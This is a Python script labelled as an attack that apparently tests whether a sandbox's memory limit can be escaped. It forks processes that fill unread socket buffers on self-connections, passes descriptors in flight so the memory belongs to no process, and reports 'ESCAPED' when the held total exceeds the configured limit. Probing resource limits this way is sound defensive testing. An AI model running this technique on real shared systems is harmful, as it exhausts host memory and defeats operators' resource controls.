# attack: connections to itself, of every kind, filled and never read: memory that belongs to no process
# limit: 20
# ends: done, killed or interrupted
import array, json, os, socket, time
CFG = json.load(open("attack.json"))
report, tell = os.pipe()
def fill(end, share):
    end.setblocking(False)
    for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
        end.setsockopt(socket.SOL_SOCKET, option, 1 << 26)
    sent = 0
    try:
        while sent < share:
            sent += end.send(b"x" * 100_000)
    except OSError:
        pass
    return sent
def pairs(server, n):
    if n % 2:
        return socket.socketpair(socket.AF_UNIX, (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET)[n % 3])
    client = socket.create_connection(server.getsockname())
    return client, server.accept()[0]
for n in range(12):                              # bounded at 1.2 GiB
    if os.fork():
        continue
    held, kept = 0, []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(128)
    try:
        for i in range(110):
            kept += pairs(server, i)
            held += sum(fill(end, (100 << 20) - held) for end in kept[-2:])
            os.write(tell, b"%d %d\n" % (n, held))
            if i % 8 == 7:                       # what is only on its way counts for nobody
                kept[-1].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [kept[-2].fileno()]))])
    except OSError:
        pass
    time.sleep(20)
    os._exit(0)
time.sleep(8)
held = dict(map(int, line.split()) for line in os.read(report, 1 << 16).decode().splitlines()[:-1])
print("held", sum(held.values()) >> 20, "MiB")
if sum(held.values()) >> 20 > 2 * CFG["memory_limit_mib"]:
    print("ESCAPED: holds", sum(held.values()) >> 20, "MiB in sockets")
print("done")
